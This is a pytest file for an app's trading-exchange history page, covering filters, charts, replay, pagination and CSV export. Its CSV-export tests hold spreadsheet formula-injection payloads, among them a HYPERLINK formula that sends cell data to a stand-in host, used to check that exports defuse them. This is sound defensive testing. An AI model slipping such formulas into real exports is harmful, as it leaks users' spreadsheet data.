"""History: filters narrow the rows, summaries and charts follow, and replay never calls an agent."""

import csv
import io
from datetime import date, datetime, timedelta, timezone

import pandas as pd

import pytest

import core
from core.journal.history import HistoryFilter
from tests.support.agents import Stray
from tests.support.ui_fixtures import set_dates, texts
from ui import session

PAGE = "pages/history.py"


class Broken:
    name = "broken-player"

    def propose(self, world, constraints, portfolio, history):
        yield "thinking"
        raise core.AgentError("the model returned nonsense twice")


RUN_AT = datetime(2024, 5, 6, 12, 0, tzinfo=timezone.utc)
"""When the stocked exchanges were run (a minute apart): a fixed clock, never the wall clock's today."""


@pytest.fixture
def stocked(app_store):
    """Exchanges of two symbols and two strategies, one ERROR and one INTERRUPTED among them."""
    moderate, strict = core.load_preset("moderate"), core.load_preset("strict")
    for n, (symbol, schema, strategy) in enumerate([("AMZN", moderate, "swing"), ("MSFT", strict, "swing"),
                                                    ("AMZN", strict, "scalp"), ("TSLA", moderate, "scalp")]):
        world = core.WorldState(symbol=symbol, as_of="2025-03-04 10:00", price=185, sma5=183, sma10=180)
        core.run_exchange_sync(world, schema, core.Portfolio(), core.HousePlayer(seed=n), core.HouseCoach(),
                               store=app_store, strategy_id=strategy, run_id=f"run-{n}",
                               now=lambda n=n: RUN_AT + timedelta(minutes=n))
    world = core.WorldState(symbol="AMZN", as_of="2025-03-04 10:00", price=185, sma5=183, sma10=180)
    core.run_exchange_sync(world, moderate, core.Portfolio(), Broken(), core.HouseCoach(), store=app_store,
                           strategy_id="swing", run_id="run-error", now=lambda: RUN_AT + timedelta(minutes=4))
    # A hold on a symbol moderate does not allow: round 1 rejects it (for the symbol only), so closing interrupts
    events = core.run_exchange(world, moderate, core.Portfolio(), Stray(), core.HouseCoach(),
                               store=app_store, strategy_id="swing", run_id="run-interrupted",
                               now=lambda: RUN_AT + timedelta(minutes=5))
    for event in events:
        if isinstance(event, core.VerdictReached):
            events.close()
            break
    return app_store


def count(at) -> int:
    return int(at.metric[0].value.replace(",", ""))


def exchanges_table(at):
    return next(df.value for df in at.dataframe if "run_id" in df.value.columns)


def pick(at, run_id):
    at.session_state[session.HISTORY_SELECTED] = run_id
    return at.run()


def test_every_exchange_is_listed_newest_first_with_summary_and_charts(app, stocked):
    at = app(PAGE)
    assert count(at) == 6
    table = exchanges_table(at)
    assert table["run_id"].iloc[0] == "run-interrupted"
    assert {"ERROR", "INTERRUPTED"} <= set(table["outcome"])
    at.run()
    assert len(at.get("plotly_chart")) == 2


def test_the_first_paint_is_the_summary_and_the_table_then_the_charts(app, stocked):
    at = app(PAGE)
    assert count(at) == 6 and len(exchanges_table(at)) == 6
    assert at.get("plotly_chart") == [] and any("charts follow" in c for c in texts(at, "caption"))
    assert not [e for e in at.expander if e.label.startswith("Round ")]  # nothing picked, nothing replayed
    at.run()  # what the fragment's timed rerun does a beat after the first paint
    titles = [chart.proto.spec for chart in at.get("plotly_chart")]
    assert len(titles) == 2 and "Exchanges per" in titles[0] and "Most frequent violations" in titles[1]


def test_a_rerun_that_changes_no_chart_makes_no_figure_and_a_new_exchange_gets_new_charts(app, stocked, monkeypatch):
    import plotly.graph_objects as go

    made, init = [], go.Figure.__init__  # a build, or a copy unpickled from a cache, makes a Figure
    monkeypatch.setattr(go.Figure, "__init__",
                        lambda figure, *args, **kwargs: made.append(1) or init(figure, *args, **kwargs))
    at = app(PAGE)
    at.run()  # the charts, built
    drawn = [c.proto.spec for c in at.get("plotly_chart")]
    assert len(drawn) == 2 and made
    made.clear()
    at.run()
    assert made == [] and [c.proto.spec for c in at.get("plotly_chart")] == drawn
    at.multiselect(key=session.H_SYMBOL).set_value(["AMZN"]).run()
    assert made and len(at.get("plotly_chart")) == 2  # other exchanges: other charts
    made.clear()
    at.multiselect(key=session.H_SYMBOL).set_value([]).run()  # back to charts made before
    assert made == [] and [c.proto.spec for c in at.get("plotly_chart")] == drawn
    world = core.WorldState(symbol="TSLA", as_of="2025-03-05 10:00", price=185, sma5=183, sma10=180)
    core.run_exchange_sync(world, core.load_preset("moderate"), core.Portfolio(), core.HousePlayer(seed=9),
                           core.HouseCoach(), store=stocked, strategy_id="swing", run_id="run-later",
                           now=lambda: RUN_AT + timedelta(days=1))
    at.run()  # the same filters, a new exchange in the store: the charts follow it
    assert made and count(at) == 7 and "2025-03-05" in at.get("plotly_chart")[0].proto.spec
    assert "2025-03-05" not in drawn[0]  # the market days by default


def test_the_table_shows_market_and_run_time_the_preset_and_the_trade(app, stocked):
    at = app(PAGE)
    table = exchanges_table(at)
    assert list(table.columns[:5]) == ["market", "run", "outcome", "symbol", "preset"]
    row = table.set_index("run_id").loc["run-0"]
    stored = stocked.get_exchange("run-0")
    action = stored.rounds[-1].proposal.actions[0]
    assert row["market"] == "2025-03-04 10:00" and row["run"] == stored.timestamp[:16].replace("T", " ")
    assert row["preset"] == "moderate" and table.set_index("run_id").loc["run-1", "preset"] == "strict"
    assert row["side"] == "long" and row["size"] == f"{action.size_pct * 100:,.2f}"
    assert (row["entry"], row["stop"], row["target"]) == tuple(
        f"{price:,.2f}" for price in (action.entry_price, action.stop_loss, action.take_profit))
    assert "None" not in table["reason"].tolist() and table.set_index("run_id").loc["run-0", "reason"] == ""


def test_an_approved_exchange_shows_earlier_violations_as_fixed(app, app_store):
    world = core.WorldState(symbol="AMZN", as_of="2025-03-04 10:00", price=185, sma5=183, sma10=180)
    fixed = next(a for seed in range(40) if (a := core.run_exchange_sync(
        world, core.load_preset("moderate"), core.Portfolio(), core.HousePlayer(seed=seed), core.HouseCoach(),
        store=app_store)).outcome == "APPROVE" and a.rounds_taken > 1)
    first = fixed.rounds[0].evaluation.violations
    at = app(PAGE)
    violations = exchanges_table(at).set_index("run_id").loc[fixed.run_id, "violations"]
    assert violations == "fixed: " + ", ".join(first)


def test_rows_without_a_trade_show_empty_cells_never_none(app, stocked):
    """ERROR, INTERRUPTED (and holds, breakers) have no size, prices or score: an empty cell, not a grey None."""
    at = app(PAGE)
    table = exchanges_table(at).set_index("run_id")
    for run_id in ("run-error", "run-interrupted"):
        row = table.loc[run_id]
        for column in ("size", "entry", "stop", "target"):
            assert row[column] == "", (run_id, column, row[column])
    assert table.loc["run-error", "reasoning"] == ""
    label = next(df for df in at.dataframe if "run_id" in df.value.columns).proto.columns
    assert '"size %"' in label  # the unit in the header, as the CSV has it


def test_the_csv_exports_what_the_table_shows_with_the_unit_in_the_header(stocked):
    from ui import history_view

    frame = pd.read_csv(io.StringIO(history_view.csv(stocked.list_exchanges(limit=None))), keep_default_na=False)
    frame = frame.set_index("run id")
    action = stocked.get_exchange("run-0").rounds[-1].proposal.actions[0]
    assert float(frame.loc["run-0", "size %"]) == pytest.approx(action.size_pct * 100)  # 3 (%), not 0.03
    assert float(frame.loc["run-0", "entry"]) == pytest.approx(action.entry_price)
    assert frame.loc["run-error", "size %"] == "" and frame.loc["run-error", "entry"] == ""


def test_the_dates_are_two_boxes_from_and_to(app, stocked):
    """Typing a range: the first day in From, then Tab to To (a single range box kept the focus on the start)."""
    at = app(PAGE)
    at.radio(key=session.H_DATES_BY).set_value("run").run()
    at.date_input(key=session.H_SINCE).set_value(RUN_AT.date()).run()
    assert count(at) == 6  # From alone: from that day on
    at.date_input(key=session.H_UNTIL).set_value(RUN_AT.date() - timedelta(days=1)).run()
    assert count(at) == 0 and any("is before From" in w for w in texts(at, "warning"))
    at.date_input(key=session.H_SINCE).set_value(None).run()
    assert count(at) == 0  # To alone: up to that day
    at.date_input(key=session.H_UNTIL).set_value(RUN_AT.date()).run()
    assert count(at) == 6


def test_the_date_filter_chooses_market_date_or_run_time(app, app_store):
    moderate = core.load_preset("moderate")
    for day in ("2010-06-01", "2021-03-04"):
        world = core.WorldState(symbol="AMZN", as_of=f"{day} 10:00", price=185, sma5=183, sma10=180)
        core.run_exchange_sync(world, moderate, core.Portfolio(), core.HousePlayer(), core.HouseCoach(),
                               store=app_store, run_id=f"on-{day}", now=lambda: RUN_AT)
    at = app(PAGE)
    assert at.radio(key=session.H_DATES_BY).value == "market"
    assert exchanges_table(at)["run_id"].tolist() == ["on-2021-03-04", "on-2010-06-01"]
    set_dates(at, date(2010, 1, 1), date(2010, 12, 31))
    assert count(at) == 1 and exchanges_table(at)["run_id"].tolist() == ["on-2010-06-01"]
    at.radio(key=session.H_DATES_BY).set_value("run").run()
    assert count(at) == 0  # both were run on RUN_AT's day, not in 2010
    set_dates(at, RUN_AT.date(), RUN_AT.date())
    assert count(at) == 2


@pytest.mark.parametrize("key, value, expected", [
    (session.H_OUTCOME, ["ERROR"], 1),
    (session.H_SYMBOL, ["AMZN"], 4),
    (session.H_STRATEGY, ["scalp"], 2),
    (session.H_PLAYER, ["broken-player", "stray-player"], 2),
])
def test_filters_narrow_the_rows(app, stocked, key, value, expected):
    at = app(PAGE)
    assert at.multiselect(key=session.H_PLAYER).options == ["broken-player", "house-player", "stray-player"]
    at.multiselect(key=key).set_value(value).run()
    assert count(at) == expected
    table = next(df.value for df in at.dataframe if "run_id" in df.value.columns)
    assert len(table) == expected


def test_text_and_date_filters(app, stocked):
    at = app(PAGE)
    at.text_input(key=session.H_TEXT).input("no such words anywhere").run()
    assert count(at) == 0
    assert any("No exchanges match" in i for i in texts(at, "info"))
    at.text_input(key=session.H_TEXT).input("").run()
    at.radio(key=session.H_DATES_BY).set_value("run").run()
    set_dates(at, RUN_AT.date(), RUN_AT.date())
    assert count(at) == 6
    day_before = RUN_AT.date() - timedelta(days=1)
    set_dates(at, day_before, day_before)
    assert count(at) == 0  # a date filter that did nothing would still show 6


def test_a_text_search_reads_the_rounds_once_for_the_page_and_not_again_on_its_reruns(app, stocked, monkeypatch):
    import core.journal.compact

    at = app(PAGE)
    at.session_state[session.HISTORY_CHARTS] = "drawn"  # the charts' queries in this run too
    found, rounds = stocked.count_exchanges(text="trend up"), stocked._db.execute("select count(*) from rounds").fetchone()[0]
    unpacked, unpack_line = [], core.journal.compact.Packer.unpack_line
    monkeypatch.setattr(core.journal.compact.Packer, "unpack_line",
                        lambda packer, blob: unpacked.append(blob) or unpack_line(packer, blob))
    at.text_input(key=session.H_TEXT).input("Trend UP").run()
    assert count(at) == found > 0 and len(unpacked) == rounds
    at.number_input(key=session.H_PAGE).set_value(1).run()
    at.run()
    assert not at.exception and len(unpacked) == rounds


def test_selecting_an_exchange_shows_its_rounds_as_cards(app, stocked):
    at = app(PAGE)
    assert at.selectbox(key=session.H_PICK).value is None
    at.selectbox(key=session.H_PICK).set_value("run-1").run()
    stored = stocked.get_exchange("run-1")
    cards = [e.label for e in at.expander if e.label.startswith("Round ")]
    assert len(cards) == stored.rounds_taken


def test_the_selection_can_come_from_the_table(app, stocked):
    at = app(PAGE)
    at.session_state[session.HISTORY_SELECTED] = "run-2"
    at.run()
    assert at.selectbox(key=session.H_PICK).value == "run-2"


@pytest.mark.parametrize("run_id, banner", [("run-0", None), ("run-error", "**ERROR**"),
                                             ("run-interrupted", "**INTERRUPTED**")])
def test_replay_renders_the_stored_rounds_without_any_agent_call(app, stocked, monkeypatch, run_id, banner):
    def no_agents(*args, **kwargs):
        raise AssertionError("replay called an agent")

    monkeypatch.setattr(core.HousePlayer, "propose", no_agents)
    monkeypatch.setattr(core.HouseCoach, "critique", no_agents)
    at = app(PAGE)
    at.selectbox(key=session.H_PICK).set_value(run_id).run()
    at.select_slider(key=session.H_SPEED).set_value("Instant")
    next(b for b in at.button if b.label == "Replay").click().run()
    assert not at.exception, [e.value for e in at.exception]
    stored = stocked.get_exchange(run_id)
    cards = [e.label for e in at.expander if e.label.startswith("Round ")]
    assert len(cards) == stored.rounds_taken == len(stored.rounds)
    banners = texts(at, "success") + texts(at, "warning") + texts(at, "error") + texts(at, "info")
    assert any(b.startswith(banner or f"**{stored.outcome}**") for b in banners)
    assert stocked.count_exchanges() == 6  # nothing new was run


def test_error_banner_carries_the_message(app, stocked):
    at = app(PAGE)
    at.selectbox(key=session.H_PICK).set_value("run-error").run()
    assert any("the model returned nonsense twice" in e for e in texts(at, "error"))


def test_the_exports_are_offered_once_an_exchange_is_picked(app, stocked):
    at = app(PAGE)
    assert {b.label for b in at.get("download_button")} == {"Export CSV"}
    pick(at, "run-0")
    assert {"Export CSV", "Export JSON", "Download artifact JSON"} <= {b.label for b in at.get("download_button")}


def test_the_csv_has_the_tables_columns(stocked):
    from ui import history_view

    rows = stocked.list_exchanges(limit=None)
    frame = pd.read_csv(io.StringIO(history_view.csv(rows)))
    assert list(frame.columns) == [c["label"] for c in history_view.COLUMNS.values()]
    assert len(frame) == 6 and "None" not in frame.astype(str).to_numpy().ravel().tolist()
    assert history_view.csv_name(HistoryFilter(symbol=["AMZN"], outcome="APPROVE")) == "exchanges_AMZN_APPROVE.csv"
    assert history_view.csv_name(HistoryFilter()) == "exchanges_all.csv"
    assert history_view.csv_name(HistoryFilter(since=date(2021, 3, 1), until=date(2021, 3, 31), dates_by="market")) \
        == "exchanges_market-2021-03-01-to-2021-03-31.csv"
    from ui import exchange_view

    assert exchange_view.artifact_name(stocked.get_exchange("run-0")) == "exchange_AMZN_2025-03-04_APPROVE_run-0.json"


def test_pagination_limits_the_table(app, app_store):
    world = core.WorldState(symbol="AMZN", as_of="2025-03-04 10:00", price=185, sma5=183, sma10=180)
    for n in range(23):
        core.run_exchange_sync(world, core.load_preset("moderate"), core.Portfolio(), core.HousePlayer(seed=n),
                               core.HouseCoach(), store=app_store, run_id=f"p{n:02d}")
    at = app(PAGE)
    table = next(df.value for df in at.dataframe if "run_id" in df.value.columns)
    assert len(table) == 20
    at.number_input(key=session.H_PAGE).set_value(2).run()
    table = next(df.value for df in at.dataframe if "run_id" in df.value.columns)
    assert len(table) == 3


def test_filters_are_still_set_after_a_visit_to_another_page(app, stocked):
    at = app(PAGE)
    at.multiselect(key=session.H_SYMBOL).set_value(["MSFT"]).run()
    at.switch_page("pages/settings.py").run()
    at.switch_page(PAGE).run()
    assert at.multiselect(key=session.H_SYMBOL).value == ["MSFT"]
    assert count(at) == 1


class Liar:
    """Says risk 2.00, reward 8.00, ratio 4.00; its prices give reward 5.00 and ratio 2.50."""

    name = "liar"

    def propose(self, world, constraints, portfolio, history):
        said = "Long AMZN 3%: risk 2.00, reward 8.00, ratio 4.00."
        yield said
        return core.Turn(core.Proposal.model_validate({"reasoning": said, "actions": [{
            "action_type": "enter_long", "symbol": "AMZN", "size_pct": 0.03, "entry_price": 100.0, "stop_loss": 98.0,
            "take_profit": 105.0}]}))


def test_history_shows_the_reasoning_score_filters_unfaithful_rounds_and_the_card_says_what_was_misstated(
        app, stocked):
    world = core.WorldState(symbol="AMZN", as_of="2025-03-04 10:00", price=185, sma5=183, sma10=180)
    core.run_exchange_sync(world, core.load_preset("moderate"), core.Portfolio(), Liar(), core.HouseCoach(),
                           store=stocked, strategy_id="swing", run_id="run-liar")
    at = app(PAGE)
    table = exchanges_table(at)
    scores = dict(zip(table["run_id"], table["reasoning"]))
    assert scores["run-liar"] == "0.60" and scores["run-0"] == "1.00"
    at.checkbox(key=session.H_UNFAITHFUL).check().run()
    assert list(exchanges_table(at)["run_id"]) == ["run-liar"] and count(at) == 1
    pick(at, "run-liar")
    assert "Reasoning vs actions: said reward 8.00, actual 5.00; said ratio 4.00, actual 2.50" in texts(at, "warning")


@pytest.mark.parametrize("strategy", ['=HYPERLINK("http://x/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
                                      "\tcmd", "\rcmd"])
def test_the_csv_export_never_hands_a_spreadsheet_a_formula(app_store, strategy):
    from ui import history_view

    world = core.WorldState(symbol="AMZN", as_of="2025-03-04 10:00", price=185, sma5=183, sma10=180)
    core.run_exchange_sync(world, core.load_preset("moderate"), core.Portfolio(), core.HousePlayer(),
                           core.HouseCoach(), store=app_store, strategy_id=strategy)
    text = history_view.csv(app_store.list_exchanges(limit=None))
    row, = csv.DictReader(io.StringIO(text, newline=""))  # as a spreadsheet reads it, \r inside quotes kept
    assert row["strategy"] == "'" + strategy


def test_safe_csv_defuses_text_and_headers_and_leaves_numbers():
    from core.exports import safe_csv

    frame = pd.DataFrame({"=cmd": ["=1+1", "plain", "-x", None], "pnl": [-1.5, 2.0, -0.25, 0.0]})
    text = safe_csv(frame)
    assert text.splitlines()[0] == '"\'=cmd","pnl"'
    back = pd.read_csv(io.StringIO(text), keep_default_na=False)
    assert back["'=cmd"].tolist() == ["'=1+1", "plain", "'-x", ""]
    assert back["pnl"].tolist() == [-1.5, 2.0, -0.25, 0.0]


def test_a_group_of_run_k_times_is_one_row_that_opens_to_its_exchanges(app, app_store):
    world = core.WorldState(symbol="AMZN", as_of="2025-03-04 10:00", price=185, sma5=183, sma10=180)
    moderate = core.load_preset("moderate")
    result = core.repeat(world, moderate, core.Portfolio(), lambda i: core.HousePlayer(seed=i),
                         lambda i: core.HouseCoach(), k=3)
    app_store.record_many(result.artifacts)
    core.run_exchange_sync(world, moderate, core.Portfolio(), core.HousePlayer(), core.HouseCoach(), store=app_store,
                           run_id="single")
    at = app(PAGE)
    assert count(at) == 4  # the summary counts every exchange
    table = exchanges_table(at)
    assert len(table) == 2  # the table lists the group once
    group_row = table[table["run_id"] != "single"].iloc[0]
    outcome, _ = result.most_common()
    assert group_row["runs"] == f"3 runs · {outcome} {result.outcomes.count(outcome)}/3"
    assert table.set_index("run_id").loc["single", "runs"] == ""
    pick(at, group_row["run_id"])
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Outcome agreement"] == f"{result.outcome_agreement:.0%}"
    inside = at.selectbox(key=session.H_GROUP_PICK)
    assert len(inside.options) == 3
    other = next(a.run_id for a in result.artifacts if a.run_id != group_row["run_id"])
    inside.set_value(other).run()
    assert not at.exception, [e.value for e in at.exception]
    assert [e for e in at.expander if e.label.startswith("Round ")]  # the opened exchange, round by round
    assert any(b.label == "Export JSON" for b in at.get("download_button"))
